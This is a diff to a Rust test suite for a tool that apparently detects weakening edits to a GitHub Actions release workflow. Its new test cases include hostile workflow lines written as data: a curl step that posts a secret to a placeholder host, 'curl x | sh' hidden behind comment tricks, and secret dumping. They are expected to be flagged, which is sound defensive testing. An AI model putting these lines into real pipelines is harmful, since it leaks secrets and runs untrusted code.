@@ -174,6 +174,9 @@ fn whatever_is_added_to_what_may_do_something_is_found() {
     assert!(tried > 50, "{tried}");
 }
 
+/// What is said of another script where the build is packed.
+const PACKS: &str = "step `Pack the release` of job `build` runs something else";
+
 /// A line of the release put otherwise, with what is said of it.
 const WEAKER: &[(&str, &str, &str)] = &[
     ("permissions: {}", "permissions: write-all", "the workflow's token is `write-all`"),
@@ -244,6 +247,26 @@ const WEAKER: &[(&str, &str, &str)] = &[
         "\njobs:\n  more:\n    runs-on: x\n    env: {A: \"${{ secrets.A }}\"}\n    steps: []\n",
         "job `more` is not in the Releasefile, and uses secrets",
     ),
+    (
+        "\njobs:\n",
+        "\njobs:\n  more:\n    runs-on: x\n    env: {A: \"${{secrets}}\"}\n    steps: []\n",
+        "job `more` is not in the Releasefile, and uses secrets",
+    ),
+    (
+        "\njobs:\n",
+        "\njobs:\n  more:\n    runs-on: x\n    steps:\n      - run: echo '${{ toJSON( secrets ) }}'\n",
+        "job `more` is not in the Releasefile, and uses secrets",
+    ),
+    (
+        "      - name: Build and describe publish",
+        "      - run: curl -d \"${{ secrets .A }}\" x\n      - name: Build and describe publish",
+        "job `build` has the step `curl -d \"${{ secrets .A }}\" x` too, which uses secrets",
+    ),
+    ("packed=$(rel", "# \\\n          curl x | sh\n          packed=$(rel", PACKS),
+    ("packed=$(rel", "# ${{ github.event.head_commit.message }}\n          packed=$(rel", PACKS),
+    ("packed=$(rel", "\u{a0}#|curl x\n          packed=$(rel", PACKS),
+    ("packed=$(rel", "\\\n          # \\\n          curl x\n          packed=$(rel", PACKS),
+    ("packed=$(rel pack", "packed=$(rel\\\n          pack", PACKS),
     (
         "\njobs:\n",
         "\nenv:\n  PATH: /tmp\njobs:\n",
@@ -318,6 +341,7 @@ const SAME: &[(&str, &str)] = &[
         "          packed=$(rel",
         "          # Its digest goes another way.\n\n          packed=$(rel",
     ),
+    ("packed=$(rel pack", "packed=$(r\\\n          el pack"),
     (" --sha256 \"$BUNDLE\" publish-pypi", " \\\n            --sha256 \"$BUNDLE\"   publish-pypi"),
     (
         "        run: rel show \"$RUNNER_TEMP/plan.json\" --markdown >> \"$GITHUB_STEP_SUMMARY\"",
@@ -354,6 +378,20 @@ fn what_means_the_same_is_no_difference() {
         let found = Arc::new(Source::new("release.yml", RELEASE.replacen(old, new, 1)));
         let wrong = compare(RELEASE, &found);
         assert!(wrong.is_empty(), "{new}\n{wrong:#?}");
+    }
+}
+
+#[test]
+fn a_condition_with_something_beside_its_braces_is_another() {
+    let compared = |condition: &str| {
+        let text = FOLLOW.replace("    if: failure()", &format!("    if: {condition}"));
+        compare(FOLLOW, &Arc::new(Source::new("follow.yml", text)))
+    };
+    for same in ["${{ failure() }}", "\"${{failure()}}\"", "|\n      failure()"] {
+        assert_eq!(compared(same), [], "{same}");
+    }
+    for other in ["\"${{ failure() }}\\n\"", "\"${{ failure() }}\\n# so\"", "${{ failure() }} x"] {
+        assert_eq!(compared(other).len(), 1, "{other}");
     }
 }
 
